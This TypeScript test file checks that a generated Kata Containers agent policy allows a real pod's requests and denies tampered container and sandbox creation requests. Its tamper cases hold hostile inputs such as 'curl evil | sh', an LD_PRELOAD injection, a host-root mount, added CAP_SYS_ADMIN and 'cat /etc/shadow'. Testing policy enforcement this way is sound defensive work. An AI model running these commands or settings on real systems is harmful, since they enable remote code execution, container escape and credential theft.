/**
 * Key acceptance: a ccgpu-generated policy (shipped settings + non-CoCo drop-in + ccgpu rules.rego), evaluated
 * with the requests a real Kata pod sent (regorus-kata k8s-policy-pod inputs), allows the pod's own sandbox and
 * containers and denies tampered CreateContainer requests.
 */
import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { AgentPolicy, GRPC_PERMISSION_DENIED, PolicyDeniedError } from '../../../../policy/agent/index.js';
import { beforeEach, describe, expect, it } from 'vitest';
import {
  StaticImageSource,
  INITDATA_ANNOTATION,
  decodeInitdataAnnotation,
  generatePolicies,
  initdataToml,
  loadSettings,
  type GenerateResult,
} from '../../../../policy/genpolicy/index.js';
import { loadDefaultRules } from '../../../../policy/rules/index.js';
import { parseAllDocuments, type Document } from 'yaml';
import { AgentLike, readKataInputs, settingsWithDropIns, type LoggedRequest } from './helpers.js';

// The pod Kata's k8s-policy-pod test ran (reconstructed from its requests), with its ConfigMap inline.
const POD_YAML = `apiVersion: v1
kind: ConfigMap
metadata:
  name: policy-configmap
  namespace: kata-containers-k8s-tests
data:
  data-1: value-1
  data-2: value-2
---
apiVersion: v1
kind: Pod
metadata:
  name: policy-pod
  namespace: kata-containers-k8s-tests
spec:
  terminationGracePeriodSeconds: 0
  runtimeClassName: kata
  containers:
    - name: busybox
      image: quay.io/prometheus/busybox:latest
      command: ["sh"]
      stdin: true
      env:
        - name: KUBE_CONFIG_1
          valueFrom:
            configMapKeyRef:
              name: policy-configmap
              key: data-1
        - name: KUBE_CONFIG_2
          valueFrom:
            configMapKeyRef:
              name: policy-configmap
              key: data-2
`;

const BUSYBOX = {
  manifestDigest: 'sha256:0000000000000000000000000000000000000000000000000000000000000000',
  config: { Env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin'], Cmd: ['sh'] },
  passwd:
    'root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1:daemon:/usr/sbin:/bin/false\nnobody:x:65534:65534:nobody:/home:/bin/false\n',
  group: 'root:x:0:\ndaemon:x:1:\nwheel:x:10:root\nnogroup:x:65534:\n',
};

async function generate(dropIns: string[]): Promise<GenerateResult> {
  const { settings } = loadSettings(settingsWithDropIns(dropIns));
  return generatePolicies({
    yamlText: POD_YAML,
    yamlFile: 'policy-pod.yaml',
    settings,
    rules: loadDefaultRules(),
    images: new StaticImageSource({ 'quay.io/prometheus/busybox:latest': BUSYBOX }),
  });
}

function agentFor(result: GenerateResult): AgentLike {
  const pod = (parseAllDocuments(result.yaml) as Document[])[1]!.toJSON() as {
    metadata: { annotations: Record<string, string> };
  };
  const annotations = pod.metadata.annotations;
  const initdata = decodeInitdataAnnotation(annotations['io.katacontainers.config.hypervisor.cc_init_data']!);
  return new AgentLike(initdata.data['policy.rego']!);
}

const requests = readKataInputs('k8s-policy-pod');
const creates = requests.filter((r) => r.ep === 'CreateContainerRequest');
const clone = <T>(x: T): T => structuredClone(x);

describe('ccgpu-generated policy against real Kata requests (k8s-policy-pod)', () => {
  let agent: AgentLike;
  beforeEach(async () => {
    agent = agentFor(await generate(['10-non-coco-drop-in.json']));
  });

  it('allows the sandbox, both containers and every other request the pod made', () => {
    expect(creates).toHaveLength(2);
    const decisions = requests
      .filter((r) => r.ep !== 'AllowRequestsFailingPolicy')
      .map((r: LoggedRequest) => [r.ep, agent.decide(r.ep, r.input)]);
    const denied = decisions.filter(([ep, ok]) => !ok && ep !== 'UpdateEphemeralMountsRequest');
    expect(denied).toEqual([]);
    // the pause container is policy index 0, busybox index 1; sandbox name/namespace recorded
    expect(agent.state).toEqual({
      sandbox_name: 'policy-pod',
      namespace: 'kata-containers-k8s-tests',
      [(creates[0]!.input as { container_id: string }).container_id]: 0,
      [(creates[1]!.input as { container_id: string }).container_id]: 1,
    });
    expect(agent.decide('AllowRequestsFailingPolicy', {})).toBe(false);
  });

  type Input = { OCI: Record<string, any>; storages: unknown[]; [k: string]: unknown }; // eslint-disable-line @typescript-eslint/no-explicit-any
  const tamper: [string, (i: Input) => void][] = [
    ['a different command', (i) => (i.OCI.Process.Args = ['sh', '-c', 'curl evil | sh'])],
    ['an extra env var', (i) => i.OCI.Process.Env.push('LD_PRELOAD=/tmp/evil.so')],
    ['a changed env value', (i) => (i.OCI.Process.Env[2] = 'KUBE_CONFIG_1=other')],
    ['a policy env var removed', (i) => i.OCI.Process.Env.splice(2, 1)],
    ['a different image', (i) => (i.OCI.Annotations['io.kubernetes.cri.image-name'] = 'quay.io/evil/busybox:latest')],
    ['a writable→read-only root flip', (i) => (i.OCI.Root.Readonly = true)],
    [
      'an extra host mount',
      (i) => i.OCI.Mounts.push({ destination: '/host', source: '/', type_: 'bind', options: ['rbind', 'rw'] }),
    ],
    [
      'an extra non-CRI annotation',
      (i) => (i.OCI.Annotations['io.katacontainers.config.hypervisor.kernel_params'] = 'init=/bin/sh'),
    ],
    ['UID 1234', (i) => (i.OCI.Process.User.UID = 1234)],
    ['an extra supplementary group', (i) => i.OCI.Process.User.AdditionalGids.push(6)],
    ['added capabilities', (i) => i.OCI.Process.Capabilities.Effective.push('CAP_SYS_ADMIN')],
    ['OCI version 1.2.1', (i) => (i.OCI.Version = '1.2.1')],
    ['an extra sysctl', (i) => (i.OCI.Linux.Sysctl['kernel.shm_rmid_forced'] = '1')],
    ['a guest hook', (i) => (i.OCI.Hooks = { Prestart: [{ Path: '/bin/evil' }] })],
    [
      'an unmasked /proc/kcore',
      (i) => (i.OCI.Linux.MaskedPaths = i.OCI.Linux.MaskedPaths.filter((p: string) => p !== '/proc/kcore')),
    ],
    [
      'an unexpected storage',
      (i) =>
        i.storages.push({
          driver: 'blk',
          driver_options: [],
          source: '/dev/vdb',
          fstype: 'ext4',
          options: [],
          mount_point: '/x',
          fs_group: null,
        }),
    ],
  ];
  for (const [what, change] of tamper) {
    it(`denies the busybox CreateContainer with ${what}`, () => {
      expect(agent.decide('CreateContainerRequest', creates[0]!.input)).toBe(true);
      const bad = clone(creates[1]!.input) as unknown as Input;
      change(bad);
      expect(agent.decide('CreateContainerRequest', bad)).toBe(false);
      expect(agent.decide('CreateContainerRequest', creates[1]!.input)).toBe(true);
    });
  }

  it('denies a container ID that could collide with policy state keys', () => {
    for (const id of ['sandbox_name', 'namespace', '../x', 'A'.repeat(64)]) {
      expect(agent.decide('CreateContainerRequest', { ...clone(creates[0]!.input), container_id: id })).toBe(false);
    }
    expect(agent.state).toEqual({});
  });

  it('denies a container of another pod (sandbox name recorded in state differs)', () => {
    expect(agent.decide('CreateContainerRequest', creates[0]!.input)).toBe(true);
    const other = clone(creates[1]!.input) as unknown as Input;
    other.OCI.Annotations['io.kubernetes.cri.sandbox-name'] = 'policy-pod-2';
    expect(agent.decide('CreateContainerRequest', other)).toBe(false);
  });

  it('denies the CreateSandbox with kernel modules, a guest hook or an extra storage', () => {
    const sandbox = requests.find((r) => r.ep === 'CreateSandboxRequest')!.input;
    expect(agent.decide('CreateSandboxRequest', sandbox)).toBe(true);
    expect(
      agent.decide('CreateSandboxRequest', { ...clone(sandbox), kernel_modules: [{ name: 'evil', parameters: [] }] }),
    ).toBe(false);
    expect(agent.decide('CreateSandboxRequest', { ...clone(sandbox), guest_hook_path: '/x' })).toBe(false);
    const s2 = clone(sandbox) as { storages: unknown[] };
    s2.storages.push({
      driver: 'local',
      driver_options: [],
      source: 'x',
      fstype: 'x',
      options: [],
      mount_point: '/',
      fs_group: null,
    });
    expect(agent.decide('CreateSandboxRequest', s2)).toBe(false);
  });
});

describe('OCI version drop-ins (check 16)', () => {
  it('with the 1.3.0 drop-in every OCI.Version is 1.3.0; 1.3.0 requests pass and 1.1.0/1.2.1 ones are denied', async () => {
    const result = await generate(['10-non-coco-drop-in.json', '20-oci-1.3.0-drop-in.json']);
    for (const c of result.policies[0]!.policyData.containers) expect(c.OCI.Version).toBe('1.3.0');
    const agent = agentFor(result);
    const at = (v: string, r: LoggedRequest): unknown => {
      const x = clone(r.input) as { OCI: { Version: string } };
      x.OCI.Version = v;
      return x;
    };
    expect(agent.decide('CreateContainerRequest', at('1.2.1', creates[0]!))).toBe(false);
    expect(agent.decide('CreateContainerRequest', creates[0]!.input)).toBe(false);
    expect(agent.decide('CreateContainerRequest', at('1.3.0', creates[0]!))).toBe(true);
    expect(agent.decide('CreateContainerRequest', at('1.3.0', creates[1]!))).toBe(true);
  });
});

describe('generated policy text', () => {
  it('is the rules file, a blank line and policy_data with the six top-level keys', async () => {
    const result = await generate(['10-non-coco-drop-in.json']);
    const policy = result.policies[0]!.policy;
    const rules = readFileSync(new URL('../../../../policy/rules/rules.rego', import.meta.url), 'utf8');
    expect(policy.startsWith(rules)).toBe(true);
    const json = policy.slice(policy.indexOf('\npolicy_data := ') + '\npolicy_data := '.length);
    expect(Object.keys(JSON.parse(json) as object)).toEqual([
      'containers',
      'common',
      'sandbox',
      'request_defaults',
      'devices',
      'cluster_config',
    ]);
  });
});

describe('the agent loads the generated initdata and enforces it (policy/agent)', () => {
  /** The initdata block device the runtime attaches: "initdata", LE u64 length, gzip(TOML). */
  function initdataDevice(annotationValue: string): Buffer {
    const gz = Buffer.from(annotationValue, 'base64');
    const head = Buffer.alloc(16);
    head.write('initdata', 0, 'latin1');
    head.writeBigUInt64LE(BigInt(gz.length), 8);
    return Buffer.concat([head, gz, Buffer.alloc(512 - ((16 + gz.length) % 512))]);
  }

  it('allows the pod as it ran and answers a tampered CreateContainer with PERMISSION_DENIED', async () => {
    const result = await generate(['10-non-coco-drop-in.json']);
    const generated = result.policies[0]!;
    expect(generated.annotationKey).toBe(INITDATA_ANNOTATION);
    // the annotation is exactly gzip(initdata TOML) in base64, and the TOML carries the policy text
    expect(gunzipSync(Buffer.from(generated.annotationValue, 'base64')).toString('utf8')).toBe(
      initdataToml(generated.policy),
    );
    expect(decodeInitdataAnnotation(generated.annotationValue).data['policy.rego']).toBe(generated.policy);

    const agent = AgentPolicy.fromInitdata(initdataDevice(generated.annotationValue));
    expect(agent).toBeDefined();
    const sandbox = requests.find((r) => r.ep === 'CreateSandboxRequest')!.input;
    await agent!.check('CreateSandboxRequest', sandbox);
    await agent!.check('CreateContainerRequest', creates[0]!.input);

    const tampered = clone(creates[1]!.input) as { OCI: { Process: { Args: string[] } } };
    tampered.OCI.Process.Args = ['sh', '-c', 'cat /etc/shadow'];
    const denial = await agent!.check('CreateContainerRequest', tampered).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(denial).toBeInstanceOf(PolicyDeniedError);
    expect((denial as PolicyDeniedError).grpcCode).toBe(GRPC_PERMISSION_DENIED);
    expect((denial as Error).message).toMatch(/^CreateContainerRequest is blocked by policy: /);
    // a denial records nothing: the real request is still allowed afterwards, and then recorded
    expect(Object.keys(agent!.data().pstate as object)).toHaveLength(3);
    await agent!.check('CreateContainerRequest', creates[1]!.input);
    expect(Object.keys(agent!.data().pstate as object)).toHaveLength(4);
    // ExecProcess of something the pod never declared is refused in the created container
    const exec = {
      container_id: (creates[1]!.input as { container_id: string }).container_id,
      exec_id: 'x',
      string_user: null,
      process: { ...(creates[1]!.input as { OCI: { Process: object } }).OCI.Process, Args: ['sh'] },
    };
    expect((await agent!.allow('ExecProcessRequest', exec)).allowed).toBe(false);
  });
});
